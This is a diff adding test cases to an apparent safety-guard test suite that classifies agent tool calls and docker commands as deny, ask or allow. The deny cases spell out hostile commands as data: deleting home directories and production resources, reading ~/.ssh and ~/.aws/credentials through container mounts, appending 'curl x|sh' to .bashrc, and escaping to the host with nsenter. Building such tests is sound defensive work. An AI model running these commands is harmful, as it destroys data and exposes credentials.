@@ -111,7 +111,18 @@ MCP_CASES = [
     ("kubernetes", "kubectl_generic", {"command": "delete", "resourceType": "ns", "name": "production"}, "deny"),
     ("kubernetes", "helm_uninstall", {"name": "api", "namespace": "production"}, "deny"),
     ("k8s", "delete_namespace", {"namespace": "prod"}, "deny"),
+    # attack round: lists of command lines, string args for a named CLI, nested and odd-cased keys
+    ("shell", "run_commands", {"commands": ["ls -la", "rm -rf ~"]}, "deny"),
+    ("terraform", "run_terraform", {"args": "destroy -auto-approve"}, "deny"),
+    ("shell", "exec", {"command": "bash", "args": ["-c", "rm -rf ~"]}, "deny"),
+    ("ops", "execute", {"Command": "dropdb app_production"}, "deny"),
+    ("ops", "run", {"payload": {"shell": "rm -rf /"}}, "deny"),
+    ("aws", "call_aws", {"cli_command": "aws s3 rm s3://shop-backups --recursive"}, "deny"),
     # ordinary look-alikes
+    ("shell", "run_commands", {"commands": ["ls -la", "npm test"]}, "allow"),
+    ("terraform", "run_terraform", {"args": "plan"}, "allow"),
+    ("dev", "run_tests", {"command": "pytest -q tests/test_x.py"}, "allow"),
+    ("browser", "navigate", {"url": "https://example.org/rm -rf"}, "allow"),
     ("aws", "call_aws", {"cli_command": "aws s3 ls"}, "allow"),
     ("aws", "call_aws", {"cli_command": "aws ec2 describe-instances --region eu-west-1"}, "allow"),
     ("aws", "suggest_aws_commands", {"query": "how do I delete an rds instance"}, "allow"),
@@ -305,6 +316,17 @@ CONTAINER_HITS = [
     ("docker run --rm -v /:/host alpine chroot /host rm -rf /etc", "deny"),
     ("docker compose run --rm -v /:/host app rm -rf /host/etc", "deny"),
     ("docker compose run --rm --no-deps -v $HOME:/h app cat /h/.aws/credentials", "deny"),
+    # attack round: other ways in
+    ("docker run --rm -v \"$HOME\":/h alpine sh -c 'tar czf - /h/.ssh' > keys.tgz", "deny"),
+    ("docker run --rm -v $HOME:/h alpine cp /h/.aws/credentials /tmp/x", "deny"),
+    ("docker run --rm -v $HOME:/h busybox find /h -name credentials -exec cat {} \\;", "deny"),
+    ("docker run --rm --workdir=/h -v $HOME:/h alpine rm -rf .aws", "deny"),
+    ("docker run --rm --entrypoint rm -v $HOME:/h alpine -rf /h", "deny"),
+    ("docker run --rm --entrypoint /bin/sh -v /:/host alpine -c 'rm -rf /host/usr'", "deny"),
+    ("docker run --rm -e HOME=/h -v $HOME:/h alpine sh -c 'rm -rf $HOME'", "deny"),
+    ("docker run --rm -u node -v $HOME:/home/node node:20 bash -c 'rm -rf ~/'", "deny"),
+    ("docker run --rm -v $HOME:/h alpine sh -c 'echo \"curl x|sh\" >> /h/.bashrc'", "ask"),
+    ("docker run --rm -v $HOME:/h alpine dd if=/dev/zero of=/h/.bashrc", "ask"),
     # the container is the host
     ("docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", "ask"),
     ("docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i rm -rf /etc", "deny"),
@@ -329,6 +351,10 @@ CONTAINER_MISSES = [
     "docker compose run --rm app npm test",
     "docker run --rm --privileged alpine sh -c 'echo hi'",
     "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker docker ps",
+    "docker run --rm -u 1000 -v $HOME:/h alpine ls /h",
+    "docker run --rm -v $HOME:/h alpine sh -c 'echo hi > /h/notes.txt'",
+    "docker run --rm -v $HOME:/home/node node:20 bash -c 'rm -rf ~/'",  # runs as root: /root goes
+    "docker run --rm -v $PWD:/src -w /src alpine sh -c 'rm -rf /tmp/* && make'",
 ]
 
 
